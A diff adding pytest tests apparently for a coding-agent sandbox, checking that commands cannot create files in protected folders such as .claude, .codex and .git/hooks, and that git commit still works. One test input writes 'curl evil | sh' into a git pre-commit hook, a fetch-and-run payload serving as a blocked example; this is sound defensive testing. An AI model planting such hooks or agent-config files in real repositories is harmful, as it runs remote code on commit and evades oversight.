@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import os
 import secrets
+import shutil
 import socket
+import subprocess
 import time
 from pathlib import Path
 
@@ -244,3 +246,39 @@ def test_no_cgroup_of_a_call_is_left_behind(sandbox: Sandbox) -> None:
     sandbox.sh("sleep 30", sandbox.boundary(limits=Limits(timeout_s=0.3)))
     left = [p.name for p in Path("/sys/fs/cgroup").rglob(f"{mine}*")]
     assert left == []
+
+
+def _files_under(folder: Path) -> list[Path]:
+    return [p for p in folder.rglob("*") if not p.is_dir()]
+
+
+@pytest.mark.parametrize(
+    ("command", "folder"),
+    [
+        ("mkdir -p .claude && echo '{}' > .claude/settings.json", ".claude"),
+        ("mkdir -p .cockpit/rules && echo 'x: 1' > .cockpit/rules/x.yaml", ".cockpit"),
+        ("mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks"),
+        ("echo 'x' > .codex/config.toml", ".codex"),
+    ],
+)
+def test_protected_folders_that_do_not_exist_yet_cannot_be_made(
+    sandbox: Sandbox, command: str, folder: str
+) -> None:
+    shutil.rmtree(sandbox.workspace / ".git" / "hooks")  # as in a clone made without hooks
+    done = sandbox.sh(command)
+    assert done.exit_code != 0
+    assert done.blocked_by is BlockedBy.READ_ONLY, done.text
+    made = sandbox.workspace / folder
+    assert made.is_dir()  # what is left: the empty mount point...
+    assert _files_under(made) == []  # ...and nothing in it
+    status = subprocess.run(
+        ["git", "status", "--porcelain"], cwd=sandbox.workspace, capture_output=True, text=True
+    )
+    assert status.stdout == ""  # git does not see empty folders
+
+
+def test_git_commit_works_with_the_protected_folders_mounted(sandbox: Sandbox) -> None:
+    shutil.rmtree(sandbox.workspace / ".git" / "hooks")
+    done = sandbox.sh("echo more >> README && git commit -qam 'by agent' && git log -1 --format=%s")
+    assert done.exit_code == 0, done.text
+    assert done.text.strip() == "by agent"
